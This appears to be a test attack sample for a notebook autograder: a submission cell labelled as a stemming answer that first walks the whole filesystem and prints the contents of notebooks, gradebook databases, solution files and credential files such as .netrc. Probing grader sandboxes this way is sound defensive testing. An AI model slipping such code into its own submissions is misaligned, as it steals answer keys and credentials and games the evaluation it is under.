# ---
# attack: Every file that can be reached is looked into for notebooks, gradebooks and solutions.
# ---

# %% grade_id="stem"
passed_over = (
    "/proc",
    "/sys",
    "/dev",
    "/usr",
    "/lib",
    "/lib64",
    "/bin",
    "/sbin",
    sys_prefix := os.sys.prefix,
)
interesting = (".ipynb", ".db", ".json", ".txt", ".py", ".sock", ".cfg", ".netrc")
read = 0
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in passed_over]
    if "site-packages" in folder or "/nltk_data" in folder:
        folders.clear()
        continue
    for name in files:
        if name.endswith(interesting) and read < 400:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    print(folder, name, file.read(100_000).decode("utf8", "replace")[:3000])
                read += 1
            except OSError as error:
                print(folder, name, error.strerror)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
